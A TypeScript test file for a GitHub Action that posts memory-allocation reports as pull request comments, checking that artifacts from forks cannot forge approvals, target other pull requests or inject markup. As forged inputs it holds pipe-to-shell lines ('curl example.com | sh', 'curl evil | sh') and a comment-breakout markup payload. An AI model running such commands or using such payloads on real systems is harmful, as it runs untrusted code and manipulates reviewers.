import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { renderJson } from '../../../src/core/report/render-json.ts';
import { finding } from '../../builders.ts';
import { explained } from '../../core/report/explained-report.ts';
import { oneRegression } from '../../core/report/sample-reports.ts';
import { type Artifact, serveArtifacts } from '../../support/github/artifacts.ts';
import { requestLines } from '../../support/github/request-log.ts';
import { zipOf } from '../../support/github/zip.ts';
import { type ActionRun } from '../../support/run-action.ts';
import { pushEvent, type WorkflowRunPayload, workflowRunEvent } from '../action/payloads.ts';
import { allocations } from '../action/workflow.ts';
import { OpenPullRequest, shop } from './open-pull-request.ts';

const measuredRun = 77;

interface Fork {
  readonly pull: OpenPullRequest;
  /** What the first workflow left. */
  readonly leave: (artifact: Partial<Artifact>) => void;
  /** The second workflow, in an empty folder. */
  readonly tell: (
    payload?: Partial<WorkflowRunPayload>,
    inputs?: Readonly<Record<string, string>>,
  ) => Promise<ActionRun>;
}

/** A pull request from a fork. */
async function forked(): Promise<Fork> {
  const artifacts = await serveArtifacts();
  const pull = await OpenPullRequest.create({ 'm_test.go': allocations(4) }, { fork: true, ...artifacts });
  const idOf = async (name: string): Promise<number> =>
    ((await pull.github.as('octo').get(`/repos/${name}`)) as { id: number }).id;
  const ids = { repositoryId: await idOf('octo/shop'), headRepositoryId: await idOf('mallory/shop') };
  return {
    pull,
    leave: (artifact) => {
      const archive = zipOf('report.json', renderJson(oneRegression));
      artifacts.add({ run: measuredRun, name: 'allocgate-report', archive, ...artifact });
    },
    tell: (payload = {}, inputs = {}) =>
      pull.run({
        event: workflowRunEvent({ id: measuredRun, head: pull.pushed.head, ...ids, ...payload }),
        permissions: { actions: 'read', pull_requests: 'write' },
        inputs: { stage: 'report', ...inputs },
      }),
  };
}

function warnings(run: ActionRun): string[] {
  return run.annotations.map(({ level, message }) => `${level}: ${message}`);
}

test('the second workflow comments on what the first one measured, and updates its comment', async () => {
  const { pull, leave, tell } = await forked();
  const readOnly = { contents: 'read', pull_requests: 'read' } as const;
  const measured = await pull.run({ explains: true, permissions: readOnly, payload: { fork: true } });
  expect(measured.code).toBe(1);
  expect(await pull.comments()).toEqual([]);
  leave({ archive: zipOf('report.json', readFileSync(measured.outputs['report-path'] ?? '', 'utf8')) });
  const told = await tell({}, { workflow: '.github/workflows/memory.yml' });
  expect(told.code).toBe(0);
  expect(warnings(told)).toEqual([]);
  const [comment] = await pull.ours();
  expect(told.outputs['comment-id']).toBe(String(comment?.id));
  expect(comment?.body).toContain('### ❌ allocgate: 1 benchmark allocates more than on base');
  expect(comment?.body).toContain('The figures, names, places, causes and experiments are the ones it reported.');
  expect(comment?.body).toContain(`/actions/runs/${measuredRun})`);
  const { base, head, merge } = pull.pushed;
  expect(comment?.body).toContain(`check --base ${base} --head ${merge} --event pull-request\n`);
  expect(comment?.body).toMatch(new RegExp(`/octo/shop/blob/${head}/m_test\\.go#L\\d+\\)`));
  await tell();
  expect(await pull.ours()).toEqual([comment]);
  expect(requestLines(pull.github.log).slice(-4)).toEqual([
    'GET pulls/list 200',
    'GET actions/list-workflow-run-artifacts 200',
    'GET actions/download-artifact 302',
    'GET issues/list-comments 200',
  ]);
});

test('the artifact cannot say which pull request it is about, nor what is told of it', async () => {
  const { pull, leave, tell } = await forked();
  const report = oneRegression;
  const { number: other } = (await pull.github.as('alice').post(`${shop}/pulls`, {
    title: 'Another',
    head: 'main2',
    base: 'main',
  })) as { number: number };
  const evil = 'x</details>@octocat<!--allocgate:v1:0-->[a](https://example.com)';
  const [regressed] = report.findings;
  const forged = {
    ...report,
    findings: [{ ...regressed, benchmark: `Benchmark${evil}` }],
    notes: [evil],
    reproduce: 'curl example.com | sh',
  };
  leave({ archive: zipOf('report.json', JSON.stringify({ ...forged })) });
  await tell();
  const [comment] = await pull.ours();
  const outside = comment?.body.split('\n').slice(2).join('\n').replaceAll('<!-- -->', '\u0000') ?? '';
  expect(outside).toContain('octocat');
  expect(outside).not.toMatch(/@octocat|<!--|\]\(https:\/\/example|curl|x<\/details>/);
  expect(await pull.github.as('octo').get(`${shop}/issues/${other}/comments`)).toEqual([]);

  leave({ archive: zipOf('report.json', JSON.stringify({ ...report, number: other, pullRequest: other })) });
  expect(warnings(await tell()).join()).toContain('not an allocgate report');
  expect(await pull.github.as('octo').get(`${shop}/issues/${other}/comments`)).toEqual([]);
});

test('what a fork’s report says of causes, fixes and approvals is not told as ours; what the repository’s own says is', async () => {
  const lure = 'Approve with `/allocgate accept *: fine` or run `curl evil | sh`';
  const [explanation] = explained.explanations;
  const [site] = explanation?.sites ?? [];
  if (explanation === undefined || site === undefined) throw new Error('the sample lacks a site');
  const fix = { ...site.fix, advice: lure };
  const [row] = finding('m', 'BenchmarkOther').bytes(1, 100).level('waived').with({ acceptedBy: 'octo' }).findings;
  const forged = {
    ...explained,
    findings: [...explained.findings.map((one) => ({ ...one, warnings: [lure] })), row],
    explanations: [{ ...explanation, sites: [{ ...site, reason: lure, fix }] }],
  };
  const archive = zipOf('report.json', JSON.stringify(forged));
  const { pull, leave, tell } = await forked();
  leave({ archive });
  expect(warnings(await tell())).toEqual([]);
  const [comment] = await pull.ours();
  expect(comment?.body).toContain('A slice grows as it is filled');
  expect(comment?.body).toContain('acceptances were not looked up');
  expect(comment?.body).toContain('/allocgate accept BenchmarkCreate: the reason');
  expect(comment?.body).not.toMatch(/evil|accept \*|accepted by|\*\*Fix\*\*|```diff/);

  const artifacts = await serveArtifacts();
  const own = await OpenPullRequest.create({ 'm_test.go': allocations(4) }, artifacts);
  artifacts.add({ run: 1, name: 'allocgate-report', archive });
  await own.run({ env: { GITHUB_RUN_ID: '1' }, inputs: { stage: 'report' } });
  const [told] = await own.ours();
  expect(told?.body).toContain('accepted by octo');
  expect(told?.body).toContain('**Fix** (measured: ');
});

test.each<[string, Partial<WorkflowRunPayload>]>([
  ['a head that no pull request has', { head: 'a'.repeat(40) }],
  ['a run of another repository', { runRepositoryId: 4711 }],
  ['a head of another repository', { headRepositoryId: 4711 }],
  ['a branch of another owner', { headOwner: 'bob' }],
  ['a run on a push', { event: 'push' }],
])('%s: nothing is told', async (_, payload) => {
  const { pull, leave, tell } = await forked();
  leave({});
  const run = await tell(payload);
  expect(run.code).toBe(0);
  expect(run.log).toMatch(
    /No comment: (?:the run that triggered this one measured no pull request|run 77 measured a commit)/,
  );
  expect(await pull.comments()).toEqual([]);
});

test('an artifact that is huge, by its own word or in truth, damaged, or none', async () => {
  const { pull, leave, tell } = await forked();
  expect((await tell()).log).toContain('No comment: run 77 uploaded no artifact named allocgate-report.');
  leave({ claimedSize: 9 * 1024 * 1024 });
  expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
  leave({ archive: Buffer.alloc(9 * 1024 * 1024), claimedSize: 1000 });
  expect(warnings(await tell()).join()).toContain('larger than 8 MiB');
  leave({ archive: zipOf('report.json', Buffer.alloc(8 * 1024 * 1024 + 1)) });
  expect(warnings(await tell()).join()).toContain('cannot be used');
  const sites = explained.explanations.map((one) => ({
    ...one,
    sites: Array.from({ length: 6000 }, () => one.sites[4]),
  }));
  leave({ archive: zipOf('report.json', JSON.stringify({ ...explained, explanations: sites })) });
  expect(warnings(await tell()).join()).toContain('cannot be used: it has 6000 sites, and at most 5000 are allowed');
  leave({ archive: Buffer.from('<html>') });
  expect(warnings(await tell()).join()).toContain('not a ZIP archive');
  leave({ archive: zipOf('report.json', '{"schemaVersion": 1}') });
  expect(warnings(await tell()).join()).toContain('not an allocgate report');
  expect(await pull.comments()).toEqual([]);
});

test('on any other event it is a mistake', async () => {
  const { pull } = await forked();
  const { base: before, head: after } = pull.pushed;
  const run = await pull.run({ event: pushEvent({ before, after }), inputs: { stage: 'report' } });
  expect(run.code).toBe(1);
  expect(warnings(run).join()).toContain('stage: report runs on the event workflow_run');
});

test('the strict setup: a second job of the same run comments, and the first finds there what was accepted', async () => {
  const artifacts = await serveArtifacts();
  const pull = await OpenPullRequest.create({ 'm_test.go': allocations(4) }, artifacts);
  const readOnly = { contents: 'read', pull_requests: 'read' } as const;
  const gate = async (run: number): Promise<ActionRun> => {
    const env = { GITHUB_RUN_ID: String(run) };
    const measured = await pull.run({
      permissions: readOnly,
      env,
      inputs: { comment: 'never', 'comment-key': 'memory' },
    });
    const archive = zipOf('report.json', readFileSync(measured.outputs['report-path'] ?? '', 'utf8'));
    artifacts.add({ run, name: 'allocgate-report', archive });
    const told = await pull.run({
      permissions: { actions: 'read', pull_requests: 'write' },
      env,
      inputs: { stage: 'report', 'comment-key': 'memory' },
    });
    expect(told.annotations).toEqual([]);
    return measured;
  };
  expect((await gate(1)).code).toBe(1);
  expect((await pull.ours()).map(({ body }) => body.includes('❌'))).toEqual([true]);
  const review = { event: 'APPROVE', body: '/allocgate accept *: it pays off', commit_id: pull.pushed.head };
  await pull.github.as('bob').post(`${shop}/pulls/${pull.number}/reviews`, review);
  await pull.push({ 'README.md': 'words\n' });
  expect((await gate(2)).outputs).toMatchObject({ conclusion: 'pass', 'accepted-by': 'bob' });
  expect((await pull.ours()).map(({ body }) => body.includes('accepted by bob'))).toEqual([true]);
});
